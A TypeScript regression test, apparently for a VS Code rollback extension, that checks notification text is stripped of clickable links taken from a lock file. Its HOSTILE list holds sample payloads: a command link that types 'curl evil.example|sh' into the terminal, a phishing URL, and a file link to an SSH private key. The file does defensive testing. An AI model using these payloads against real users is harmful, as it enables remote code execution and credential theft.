// VS Code's notifications turn `[label](command:…)` into a link and run the command when it is
// clicked (the workbench's notification renderer opens it with allowCommands: true, trusted
// workspace or not). Found by this review: a hostile target's lock holder reached
// "Open Running Rollback's Journal"'s notification as written, so a holder named
// `[Release the stale lock](command:workbench.action.terminal.sendSequence?…)` became a button
// that types into the operator's terminal. The promise is tested where it is kept: the link
// parser is the one in the installed VS Code workbench (code-server's bundle, read from it), the
// message is the one readRunningJournal builds from a real lock file read by the real shell.
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { readRunningJournal } from '../../../src/app/teamJournal';
import { notificationSafe } from '../../../src/core/redact/displayText';
import { LocalCommandRunner } from '../../../src/infra/shell/localCommandRunner';
import { tempDir } from '../engine/helpers';

const WORKBENCH = join(__dirname, '../../../.tools/code-server/node_modules/code-server/lib/vscode/out/vs/code/browser/workbench/workbench.js');

/** The notification's link parser, as the workbench ships it: its regular expression (`[label](https://…|command:…|file:…)`). */
function workbenchLinkPattern(): RegExp | undefined {
  if (!existsSync(WORKBENCH)) return undefined;
  const js = readFileSync(WORKBENCH, 'utf8');
  const start = js.indexOf('/\\[([^\\]]+)\\]\\(((?:https?:\\/\\/|command:|file:)');
  if (start < 0) return undefined;
  const end = js.indexOf('/gi', start);
  return new RegExp(js.slice(start + 1, end), 'gi');
}

const pattern = workbenchLinkPattern();
const skip = pattern ? false : `needs code-server's workbench (scripts/setup.sh installs it under .tools) with its notification link parser at ${WORKBENCH}`;
const links = (text: string): string[] => [...text.matchAll(pattern!)].map((m) => m[2]);

const HOSTILE = [
  '[Release the stale lock](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)',
  '[runbook](https://evil.example/phish "Open the runbook")',
  '[x](COMMAND:rollbackPilot.releaseLock)',
  '[the key](file:///home/op/.ssh/id_ed25519)',
];

describe('a notification quoting a hostile host carries no link', { skip }, () => {
  const tmp = tempDir('notification-links');
  after(() => tmp.cleanup());

  test('the parser finds the links in the raw text (the attack is real) and none after notificationSafe, the words kept', () => {
    for (const h of HOSTILE) {
      assert.equal(links(h).length, 1, `the workbench parser does not see ${h} as a link: this case tests nothing`);
      const safe = notificationSafe(h);
      assert.deepEqual(links(safe), [], safe);
      assert.equal(safe.replace(/\s/g, ''), h.replace(/\s/g, ''), 'only a space is added');
    }
  });

  test("Open Running Rollback's Journal with a hostile lock holder and no journal copy: its notification has no link", async () => {
    const cwd = join(tmp.dir, 'target');
    mkdirSync(join(cwd, '.rollback/locks'), { recursive: true });
    writeFileSync(join(cwd, '.rollback/locks/rollback.lock'), JSON.stringify({ who: HOSTILE[0], since: new Date().toISOString(), runId: 'rb-evil', environment: 'production', where: 'prod' }));
    const read = await readRunningJournal(() => new LocalCommandRunner(), { name: 'production', host: 'local' }, cwd);
    assert.ok('none' in read, JSON.stringify(read));
    assert.match(read.none, /Release the stale lock/, read.none);
    assert.deepEqual(links(read.none), [], `the notification would offer the host's link: ${read.none}`);
  });
});
